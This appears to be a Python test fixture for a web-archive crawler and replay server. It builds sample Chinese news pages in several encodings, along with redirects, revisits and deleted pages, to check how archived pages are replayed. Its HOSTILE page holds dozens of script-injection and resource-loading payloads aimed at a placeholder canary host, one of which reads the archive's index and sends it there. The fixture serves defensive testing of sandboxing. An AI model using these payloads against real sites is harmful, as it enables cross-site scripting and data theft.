"""An archive with pages in several encodings, a redirect, a revisit, files and a hostile page; and its server."""

from __future__ import annotations

import datetime as dt
import http.client
import io
import json
import os
import signal
import socket
import subprocess
import sys
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path
from typing import Any
from urllib.parse import quote

from archive.layout import Layout
from archive.warc.capture import Earlier
from archive.warc.writer import Exchange, Writer

HOST = "http://a.cn"
BEGIN = dt.datetime(2026, 1, 1, 8, tzinfo=dt.UTC)
PICTURE = b"\x89PNG\r\n\x1a\n" + bytes(40)
SENTENCES = (
    "各民主党派负责人参加座谈会，围绕全市发展建言献策。",
    "会议由市委统战部主持，强调凝聚共识。",
    "侨联代表作了发言。",
)
# A page that shows nothing without its script.
SCRIPTED = """<html><head><title>脚本页</title></head><body><div id=app></div>
<script>fetch('/rows.json').then(r=>r.json()).then(d=>{document.getElementById('app').textContent=d.text})</script></body></html>"""
# Attacks of a hostile page: each tries to reach the canary, run a script, or read the interface.
HOSTILE = """<html><head><title>"><script>document.title='ran'</script>恶意页面</title>
<base href="http://CANARY/base/"><link rel=stylesheet href="http://CANARY/a.css"><link rel=prefetch href="http://CANARY/b">
<link rel=preload as=image href="http://CANARY/c"><link rel=preconnect href="http://CANARY"><link rel=icon href="http://CANARY/d">
<link rel=manifest href="http://CANARY/e"><meta http-equiv=Link content="<http://CANARY/f>; rel=preload">
<style>@import "http://CANARY/g.css"; body{background:url(http://CANARY/h.png)} @font-face{font-family:x;src:url(http://CANARY/i)}</style>
<script>document.title='ran';fetch('http://CANARY/j');fetch('INTERFACE/index.json').then(r=>r.text()).then(t=>fetch('http://CANARY/k?'+t))</script>
<script src="http://CANARY/l.js"></script></head>
<body onload="new Image().src='http://CANARY/m'" background="http://CANARY/n.png"><h1>恶意页面会议召开</h1>
<p>市委统战部召开会议，传达学习精神，研究部署下一阶段工作。</p><p>市委统战部召开会议，传达学习精神，研究部署下一阶段工作。</p>
<img src="http://CANARY/o.png" onerror="fetch('http://CANARY/p')">
<img srcset="http://CANARY/q.png 1x, http://CANARY/r.png 2x">
<picture><source srcset="http://CANARY/s.png"><img src=x></picture><svg onload="fetch('http://CANARY/t')"><image href="http://CANARY/u.png"/>
<use xlink:href="http://CANARY/v.svg#a"/></svg><object data="http://CANARY/w"></object><embed src="http://CANARY/x">
<iframe src="http://CANARY/y"></iframe><iframe srcdoc="<script>fetch('http://CANARY/z')</script>"></iframe>
<video src="http://CANARY/1" poster="http://CANARY/2" autoplay></video><audio src="http://CANARY/3" autoplay></audio>
<form action="http://CANARY/4"><input type=image src="http://CANARY/5"><button formaction="http://CANARY/6">x</button></form>
<a href="javascript:fetch('http://CANARY/7')" ping="http://CANARY/8" id=a>x</a><table background="http://CANARY/9"><tr><td>x</table>
<div style="background-image:url('http://CANARY/10')">x</div><input autofocus onfocus="fetch('http://CANARY/11')">
<details open ontoggle="fetch('http://CANARY/12')"></details><math href="javascript:fetch('http://CANARY/13')">x</math>
<script>new WebSocket('ws://CANARY/14');navigator.sendBeacon('http://CANARY/15');top.location='http://CANARY/16';
navigator.serviceWorker&&navigator.serviceWorker.register('/sw.js');new Worker('data:,fetch("http://CANARY/17")')</script></body></html>"""


def html(title: str, charset: str | None, body: str = "", theme: str | None = None) -> str:
    meta = f'<meta charset="{charset}">' if charset else ""
    paragraphs = "".join(
        f"<p>{sentence}{sentence}</p>" for sentence in (*SENTENCES, f"本次活动的主题是{theme or title}。")
    )
    dateline = f"发布时间：2026-01-0{1 + len(title) % 5} 来源：市委统战部"
    return f"<html><head>{meta}<title>{title}</title><link rel=stylesheet href=/s.css></head><body><h1>{title}</h1>\
<div>{dateline}</div><div class=content>{paragraphs}{body}</div></body></html>"


def answer(body: bytes, kind: str = "text/html", status: str = "200 OK", extra: str = "") -> bytes:
    return f"HTTP/1.1 {status}\r\nContent-Type: {kind}\r\nContent-Length: {len(body)}\r\n{extra}\r\n".encode() + body


def pages(canary: str, interface: str) -> list[tuple[str, bytes]]:
    """The addresses and responses, captured once an hour."""
    first = answer(html("座谈会召开", "utf-8").encode(), "text/html; charset=utf-8")
    edited = html("座谈会召开", "utf-8").replace("凝聚共识", "凝聚力量", 1).encode()
    hostile = HOSTILE.replace("CANARY", canary).replace("INTERFACE", interface)
    return [
        ("/1.html", first),
        ("/gbk.html", answer(html("统战要闻在线", "gb2312", "<img src=/i.png>").encode("gb18030"))),
        ("/big5.html", answer(html("統戰工作會議", "big5").encode("big5hkscs", "xmlcharrefreplace"))),
        ("/wrong.html", answer(html("编码写错之页", None).encode("gb18030"), "text/html; charset=iso-8859-1")),
        ("/old.html", answer(b"", status="302 Found", extra="Location: /gbk.html\r\n")),
        (
            "/s.css",
            answer(b"body{background:url(i.png)} h1{color:#010203} @import 'http://else.cn/x.css';", "text/css"),
        ),
        ("/i.png", answer(PICTURE, "image/png")),
        ("/1.html", first),
        ("/1.html", answer(edited, "text/html; charset=utf-8")),
        ("/rows.json", answer('{"text": "脚本写出的正文"}'.encode(), "application/json")),
        ("/script.html", answer(SCRIPTED.encode(), "text/html; charset=utf-8")),
        ("/hostile.html", answer(hostile.encode(), "text/html; charset=utf-8")),
        ("/gone.html", answer(html("将被撤下之文", "utf-8", theme="团结").encode())),
        # One page is deleted, and one is restored.
        ("/dead.html", answer(html("已经删除的通知", "utf-8").encode())),
        ("/back.html", answer(html("失而复得的消息", "utf-8").encode())),
        ("/dead.html", answer(b"not here", status="404 Not Found")),
        ("/back.html", answer(b"not here", status="404 Not Found")),
        ("/back.html", answer(html("失而复得的消息", "utf-8").encode())),
        # The same text with another title is a copy, until the first one is taken down.
        ("/copy.html", answer(html("留副本", "utf-8", theme="团结").encode())),
    ]


def make(folder: Path, canary: str = "127.0.0.9:9", interface: str = "http://127.0.0.1:1") -> None:
    """Write the WARC file, then make its shard and the catalogue by the command."""
    (folder / "sites").mkdir(parents=True)
    text = 'name = "甲县统战部"\nhosts = ["a.cn"]\nplace = "510500"\n[crawl]\nstart = ["http://a.cn/"]\n'
    (folder / "sites" / "a.toml").write_text(text, encoding="utf-8")
    writer = Writer(Layout(root=folder / "data"), "a", warcinfo=())
    kept: dict[bytes, Earlier] = {}
    for hour, (path, response) in enumerate(pages(canary, interface)):
        exchange = Exchange(
            url=HOST + path,
            started=BEGIN + dt.timedelta(hours=hour),
            ip=None,
            request=b"",
            response=io.BytesIO(response),
        )
        known = kept.get(response)
        written = writer.exchange(exchange, lambda *_, known=known: known)
        kept.setdefault(response, Earlier(id=written.id, url=HOST + path, date=written.date))
    writer.close()
    cundang(folder, "clean")


def cundang(folder: Path, *words: str, data: str = "data") -> str:
    done = subprocess.run(command(folder, *words, data=data), capture_output=True, text=True, timeout=300, check=False)
    assert done.returncode == 0, done.stderr[-2000:]
    return done.stdout


def command(folder: Path, *words: str, data: str = "data") -> list[str]:
    return [sys.executable, "-m", "crawler.cli", "--data", f"{folder}/{data}", "--sites", f"{folder}/sites", *words]


def free_ports() -> int:
    """A free port whose successor is free too."""
    while True:
        with socket.socket() as one, socket.socket() as two:
            one.bind(("127.0.0.1", 0))
            port = int(one.getsockname()[1])
            try:
                two.bind(("127.0.0.1", port + 1))
            except OSError:
                continue
            return port


@contextmanager
def serving(folder: Path, port: int, *words: str) -> Iterator[subprocess.Popen[str]]:
    """Run the command during the block; it must end with exit code 0 after SIGINT."""
    process = subprocess.Popen(
        command(folder, "serve", "--port", str(port), *words), stderr=subprocess.PIPE, text=True, env=os.environ
    )
    assert process.stderr is not None
    said = process.stderr.readline()
    assert f"127.0.0.1:{port}" in said, said + process.stderr.read()
    drain = threading.Thread(target=process.stderr.read, daemon=True)
    drain.start()
    try:
        yield process
    finally:
        process.send_signal(signal.SIGINT)
        process.wait(60)
        drain.join(60)
        process.stderr.close()


class Shown:
    """The two servers of one archive."""

    def __init__(self, folder: Path, port: int) -> None:
        self.folder, self.port = folder, port

    def get(
        self, path: str, *, replay: bool = False, host: str | None = None, method: str = "GET"
    ) -> tuple[int, Any, bytes]:
        port = self.port + replay
        connection = http.client.HTTPConnection("127.0.0.1", port, timeout=120)
        headers = {"Host": host or f"127.0.0.1:{port}"}
        connection.request(method, quote(path, safe=":/?&=%,;+\"'()"), headers=headers)
        response = connection.getresponse()
        found = response.status, response.headers, response.read()
        connection.close()
        return found

    def json(self, path: str) -> Any:
        status, _, body = self.get(path)
        assert status == 200, body[:500]
        return json.loads(body)

    def capture_of(self, url: str) -> str:
        """The id of a capture, whether it is a document or a skip."""
        for index in (self.folder / "data" / "index").rglob("*.cdxj"):
            for line in index.read_text(encoding="ascii").splitlines():
                said = json.loads(line.split(" ", 2)[2])
                if said["url"] == HOST + url:
                    return str(said["id"])
        raise AssertionError(url)

    def id_of(self, url: str) -> str:
        hits = self.json("/search.json?size=200")["found"]["hits"]
        return str(next(hit["id"] for hit in hits if hit["url"] == HOST + url))
